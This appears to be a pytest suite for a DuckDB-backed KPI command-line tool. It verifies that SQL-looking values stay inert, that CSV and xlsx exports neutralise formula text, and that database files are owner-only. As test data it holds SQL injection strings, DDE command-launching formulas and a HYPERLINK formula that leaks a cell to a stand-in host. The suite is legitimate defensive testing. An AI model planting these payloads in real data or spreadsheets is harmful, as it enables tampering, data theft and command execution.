"""Injection: values from files and options reach SQL only as bound parameters, come back unchanged,
are written to spreadsheets as text (never as formulas), and the database is readable by its owner only.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from faultkit import Spy, kpi_env, rows, table_checksums
from kit import SAMPLE_THEMES, cli

HEADER = "theme_id,item,funding,element,organizations,title,start_fy,end_fy,status"

# theme_ids a careless string-built SQL statement would run; none starts with a formula character
NASTY_IDS = [
    "x'); DROP TABLE themes; --",
    "'; DELETE FROM loads; --",
    'Robert"); DROP TABLE budget;--',
    "a;b;c; SELECT 1;",
    "' OR '1'='1",
    "$1 ? %s :name {0}",
    "back\\slash\\'quote",
    "/* comment */ x",
    "テーマ'); DROP TABLE followups; --",
]


def csv_text(records: list[list[str]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(HEADER.split(","))
    writer.writerows(records)
    return buf.getvalue()


def record(theme_id: str, organizations: str = "某社", title: str = "テーマ", status: str = "遅延") -> list[str]:
    return [theme_id, "1", "委託", "a1", organizations, title, "", "2025", status]


def sample_records() -> list[list[str]]:
    """The sample's themes as records of HEADER (their status cells give the end years): a newer list of the
    programme holds its themes (a list sharing few of them is refused as another programme's)."""
    with SAMPLE_THEMES.open(encoding="utf-8-sig", newline="") as f:
        return [[*r[:7], "", r[7]] for r in list(csv.reader(f))[1:]]


@pytest.fixture
def nasty_store(sample_store: Path, tmp_path: Path) -> Path:
    """The sample database plus a list of today (FY2026: exported --as-of 2026) of themes whose ids, organisations and titles look like SQL."""
    source = tmp_path / "themes_nasty.csv"
    source.write_text(
        csv_text(sample_records() + [record(t, organizations=f"{t} 株式会社", title=f"題名 {t}") for t in NASTY_IDS]),
        encoding="utf-8",
    )
    result = cli("load", "--db", str(sample_store), str(source))
    assert result.returncode == 0, result.stderr
    return sample_store


def test_sql_looking_values_are_stored_exactly_and_nothing_else_happens(nasty_store: Path) -> None:
    tables = {r[0] for r in rows(nasty_store, "SELECT table_name FROM information_schema.tables")}
    assert {"themes", "loads", "budget", "followups"} <= tables
    stored = rows(nasty_store, "SELECT theme_id, organizations, title FROM themes WHERE theme_id = ANY(?)", [NASTY_IDS])
    assert sorted(stored) == sorted((t, f"{t} 株式会社", f"題名 {t}") for t in NASTY_IDS)
    assert rows(nasty_store, "SELECT count(*) FROM themes") == [(144 + len(NASTY_IDS),)]
    assert rows(nasty_store, "SELECT count(*) FROM budget") == [(7,)]
    assert rows(nasty_store, "SELECT count(*) FROM loads WHERE file_name = 'themes_nasty.csv'") == [(1,)]


def test_sql_looking_values_come_back_unchanged_in_json_and_in_the_export(nasty_store: Path, tmp_path: Path) -> None:
    report = cli("report", "--db", str(nasty_store), "--format", "json")  # this year: the list of today
    assert report.returncode == 0, report.stderr
    delayed = json.loads(report.stdout)["themes"]["delayed"]
    listed = {r["theme_id"]: (r["organizations"], r["title"]) for r in delayed}
    for theme_id in NASTY_IDS:
        assert listed[theme_id] == (f"{theme_id} 株式会社", f"題名 {theme_id}")
    out = tmp_path / "out"
    export = cli("export", "--db", str(nasty_store), "--as-of", "2026", "--out", str(out))
    assert export.returncode == 0, export.stderr
    with (out / "themes.csv").open(encoding="utf-8-sig", newline="") as f:
        exported = {r[0]: r for r in csv.reader(f)}
    for theme_id in NASTY_IDS:
        assert exported[theme_id][4:6] == [f"{theme_id} 株式会社", f"題名 {theme_id}"]


def test_reloading_the_same_sql_looking_file_is_idempotent(nasty_store: Path, tmp_path: Path) -> None:
    before = table_checksums(nasty_store)
    again = cli("load", "--db", str(nasty_store), str(tmp_path / "themes_nasty.csv"))
    assert again.returncode == 0, again.stderr
    assert "変更なし" in again.stderr
    assert table_checksums(nasty_store) == before


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--as-of", "2025'; DROP TABLE themes; --"],
        ["check", "--as-of", "R7); DROP TABLE themes; --"],
        ["load", "--kind", "themes'; DROP TABLE themes; --", str(SAMPLE_THEMES)],
        ["export", "--as-of", "2025", "--encoding", "utf-8'; DROP TABLE themes; --", "--out", "{out}"],
    ],
    ids=["report-as-of", "check-as-of", "load-kind", "export-encoding"],
)
def test_sql_in_an_option_is_a_usage_error_and_changes_nothing(
    sample_store: Path, tmp_path: Path, args: list[str]
) -> None:
    before = table_checksums(sample_store)
    args = [a.replace("{out}", str(tmp_path / "out")) for a in args]
    result = cli(args[0], "--db", str(sample_store), *args[1:])
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert table_checksums(sample_store) == before


def test_sql_in_the_database_path_and_in_a_file_name_is_just_a_name(tmp_path: Path) -> None:
    folder = tmp_path / "it's; DROP TABLE themes; --"
    folder.mkdir()
    db = folder / "kpi'; DROP TABLE loads; --.duckdb"
    source = folder / "themes_'); DROP TABLE loads; --.csv"
    shutil.copy(SAMPLE_THEMES, source)
    result = cli("load", "--db", str(db), str(source))
    assert result.returncode == 0, result.stderr
    assert rows(db, "SELECT file_name, row_count FROM loads") == [(source.name, 144)]
    report = cli("report", "--db", str(db), "--as-of", "2025")
    assert report.returncode == 0, report.stderr


FORMULAS = {
    "theme_id": ["=1+1", "+1+1", "-1+1", "@SUM(A1)"],
    "organizations": ['=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")', "+cmd|' /C calc'!A0"],
    "title": ["=cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"],
}


@pytest.fixture
def formula_store(sample_store: Path, tmp_path: Path) -> Path:
    ids = FORMULAS["theme_id"]
    records = sample_records() + [record(t) for t in ids]
    records += [record(f"F-ORG-{i}", organizations=v) for i, v in enumerate(FORMULAS["organizations"])]
    records += [record(f"F-TTL-{i}", title=v) for i, v in enumerate(FORMULAS["title"])]
    source = tmp_path / "themes_formulas.csv"
    source.write_text(csv_text(records), encoding="utf-8")
    result = cli("load", "--db", str(sample_store), str(source))
    assert result.returncode == 0, result.stderr
    return sample_store


PAYLOADS = [v for values in FORMULAS.values() for v in values]


def assert_guarded(cells: list[str], where: str) -> None:
    """Every payload appears, and only behind a leading apostrophe (text, not a formula, to Excel)."""
    for payload in PAYLOADS:
        assert f"'{payload}" in cells, f"{where}: {payload!r} missing or not guarded"
        assert payload not in cells, f"{where}: {payload!r} written as a bare cell"


def test_the_csv_export_guards_formula_text(formula_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = cli("export", "--db", str(formula_store), "--as-of", "2026", "--out", str(out))
    assert result.returncode == 0, result.stderr
    with (out / "themes.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for r in csv.reader(f) for c in r]
    assert_guarded(cells, "themes.csv")


def test_the_xlsx_export_writes_formula_text_as_text(formula_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = cli("export", "--db", str(formula_store), "--as-of", "2026", "--out", str(out), "--format", "xlsx")
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out / "kpi_submission.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert "<f>" not in book.read(name).decode("utf-8"), f"{name} holds a formula"
        shared = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in book.namelist() else ""
    strings = [
        re.sub(r"<[^>]+>", "", s).replace("&amp;", "&").replace("&quot;", '"').replace("&apos;", "'")
        for s in re.findall(r"<si>(.*?)</si>", shared, re.S)
    ]
    for payload in PAYLOADS:  # as typed: a text cell of an xlsx is never a formula, so no guard changes it
        assert payload in strings, f"kpi_submission.xlsx: {payload!r} missing"
        assert f"'{payload}" not in strings, f"kpi_submission.xlsx: {payload!r} written behind a '"


def test_the_csv_report_guards_formula_text(formula_store: Path) -> None:
    result = cli("report", "--db", str(formula_store), "--format", "csv")
    assert result.returncode == 0, result.stderr
    cells = [c for r in csv.reader(io.StringIO(result.stdout)) for c in r]
    assert_guarded(cells, "kpi report --format csv")


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_a_new_database_is_readable_by_its_owner_only(tmp_path: Path, umask: int) -> None:
    db = tmp_path / "kpi.duckdb"
    result = subprocess.run(
        [sys.executable, "-m", "kpi", "load", "--db", str(db), str(SAMPLE_THEMES)],
        capture_output=True,
        text=True,
        env=kpi_env(),
        preexec_fn=lambda: os.umask(umask),
    )
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


def test_the_write_ahead_log_is_readable_by_its_owner_only(sample_store: Path, tmp_path: Path) -> None:
    source = tmp_path / "themes_secret.csv"
    source.write_text(csv_text([*sample_records(), record("SECRET-1", title="未公開の研究テーマ名")]), encoding="utf-8")
    wal = sample_store.with_name(sample_store.name + ".wal")
    with Spy("load", "--db", str(sample_store), str(source), pause_at="after COMMIT") as spy:
        spy.wait_for("paused")  # committed, not yet checkpointed: the rows are in the log
        assert wal.exists()
        assert "未公開の研究テーマ名".encode() in wal.read_bytes()
        mode = stat.S_IMODE(wal.stat().st_mode)
    assert mode == 0o600, oct(mode)
